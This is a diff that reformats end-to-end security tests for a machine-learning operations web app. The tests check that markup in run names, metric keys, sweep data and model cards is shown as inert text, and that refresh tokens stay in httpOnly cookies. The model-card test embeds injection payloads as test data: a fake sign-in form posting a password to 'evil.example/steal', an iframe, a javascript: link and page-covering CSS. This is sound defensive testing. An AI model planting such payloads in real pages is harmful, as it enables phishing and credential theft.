@@ -47,14 +47,24 @@ def test_markup_in_names_is_shown_as_text_in_an_admins_browser(api, admin, brows
     for i, name in enumerate((PAYLOAD, f"{PAYLOAD} 2")):
         run = new_run(api, h, experiment="xss-exp", name=name, params={"lr": str(0.001 * (i + 1))})
         assert run["name"] == name  # run names are free text: the UI must treat them as text
-        assert log(api, h, run["id"], [{"key": "loss", "value": 2.0 - s / 10 - i / 5, "step": s} for s in range(10)]).status_code == 200
+        assert (
+            log(
+                api, h, run["id"], [{"key": "loss", "value": 2.0 - s / 10 - i / 5, "step": s} for s in range(10)]
+            ).status_code
+            == 200
+        )
         run_ids.append(run["id"])
     # a metric key with markup, as stored before keys were checked (the API now refuses it)
     with psycopg.connect(libpq_url(database_url), autocommit=True) as conn:
         for s in range(5):
-            conn.execute("INSERT INTO run_metrics (run_id, key, value, step, timestamp) VALUES (%s, %s, %s, %s, 0)",
-                         (run_ids[0], PAYLOAD, 1.0 - s / 10, s))  # fmt: skip
-        conn.execute("INSERT INTO run_latest_metrics (run_id, key, value, step, timestamp) VALUES (%s, %s, 0.6, 4, 0)", (run_ids[0], PAYLOAD))
+            conn.execute(
+                "INSERT INTO run_metrics (run_id, key, value, step, timestamp) VALUES (%s, %s, %s, %s, 0)",
+                (run_ids[0], PAYLOAD, 1.0 - s / 10, s),
+            )
+        conn.execute(
+            "INSERT INTO run_latest_metrics (run_id, key, value, step, timestamp) VALUES (%s, %s, 0.6, 4, 0)",
+            (run_ids[0], PAYLOAD),
+        )
 
     page = browser_page
     violations: list[str] = []
@@ -62,7 +72,9 @@ def test_markup_in_names_is_shown_as_text_in_an_admins_browser(api, admin, brows
     ui_login(page, "admin", ADMIN_PASSWORD)
 
     # the refresh token is in no storage a script can read, and not in document.cookie (httpOnly)
-    storage = page.evaluate("JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie])")
+    storage = page.evaluate(
+        "JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie])"
+    )
     assert "refresh" not in storage.lower(), storage
     cookies = {c["name"]: c for c in page.context.cookies()}
     assert cookies["axops_refresh"]["httpOnly"] and cookies["axops_refresh"]["sameSite"] == "Strict"
@@ -93,13 +105,38 @@ def test_markup_in_names_is_shown_as_text_in_an_admins_browser(api, admin, brows
 
     # a sweep whose metric is markup (the API now refuses one; the answer is stubbed as old data would read)
     sweep_id, jobs = str(uuid.uuid4()), [str(uuid.uuid4()), str(uuid.uuid4())]
-    sweep = {"id": sweep_id, "name": "legacy sweep", "strategy": "grid", "metric": PAYLOAD, "mode": "min",
-             "space": {"hyperparameters.learning_rate": {"values": [0.001, 0.01]}}, "status": "succeeded",
-             "trials": [{"job_id": jobs[0], "run_id": run_ids[0], "status": "succeeded", "params": {"hyperparameters.learning_rate": 0.001}, "value": 0.5},
-                        {"job_id": jobs[1], "run_id": run_ids[1], "status": "succeeded", "params": {"hyperparameters.learning_rate": 0.01}, "value": 0.25}],
-             "best_job_id": jobs[1], "best_value": 0.25, "created_at": "2026-01-01T00:00:00Z"}  # fmt: skip
-    page.route(re.compile(rf".*/api/training/sweep/{sweep_id}$"),
-               lambda route: route.fulfill(status=200, content_type="application/json", body=json.dumps(sweep)))  # fmt: skip
+    sweep = {
+        "id": sweep_id,
+        "name": "legacy sweep",
+        "strategy": "grid",
+        "metric": PAYLOAD,
+        "mode": "min",
+        "space": {"hyperparameters.learning_rate": {"values": [0.001, 0.01]}},
+        "status": "succeeded",
+        "trials": [
+            {
+                "job_id": jobs[0],
+                "run_id": run_ids[0],
+                "status": "succeeded",
+                "params": {"hyperparameters.learning_rate": 0.001},
+                "value": 0.5,
+            },
+            {
+                "job_id": jobs[1],
+                "run_id": run_ids[1],
+                "status": "succeeded",
+                "params": {"hyperparameters.learning_rate": 0.01},
+                "value": 0.25,
+            },
+        ],
+        "best_job_id": jobs[1],
+        "best_value": 0.25,
+        "created_at": "2026-01-01T00:00:00Z",
+    }
+    page.route(
+        re.compile(rf".*/api/training/sweep/{sweep_id}$"),
+        lambda route: route.fulfill(status=200, content_type="application/json", body=json.dumps(sweep)),
+    )
     page.goto(f"/training/sweeps/{sweep_id}")
     chart = page.get_by_test_id("sweep-chart")
     expect(chart.locator("canvas")).to_be_visible()
@@ -146,12 +183,20 @@ def test_model_card_renders_only_markdown(api, admin, browser_page, demo_dirs):
     model = register(api, dev, "card-model", description=f"desc {PAYLOAD}")
     r = upload(api, dev, model["id"], dir_files(demo_dirs[0]))
     assert r.status_code == 201, r.text
-    parts = ["# Card title", "<style>body { display: none !important }</style>",
-             '<form action="https://evil.example/steal" data-testid="phish"><input name="password"><button>Sign in again</button></form>',
-             PAYLOAD, '<iframe src="https://evil.example"></iframe>', "[docs](javascript:window.__xss=1) [site](https://example.com)",
-             '<p style="position:fixed;inset:0;background:red" id="overlay">covered</p>']  # fmt: skip
+    parts = [
+        "# Card title",
+        "<style>body { display: none !important }</style>",
+        '<form action="https://evil.example/steal" data-testid="phish"><input name="password"><button>Sign in again</button></form>',
+        PAYLOAD,
+        '<iframe src="https://evil.example"></iframe>',
+        "[docs](javascript:window.__xss=1) [site](https://example.com)",
+        '<p style="position:fixed;inset:0;background:red" id="overlay">covered</p>',
+    ]
     card = "\n\n".join(parts)
-    assert api.put(f"/api/model/version/{r.json()['id']}/card", json={"card_markdown": card}, headers=dev).status_code == 200
+    assert (
+        api.put(f"/api/model/version/{r.json()['id']}/card", json={"card_markdown": card}, headers=dev).status_code
+        == 200
+    )
 
     page = browser_page
     ui_login(page, "admin", ADMIN_PASSWORD)
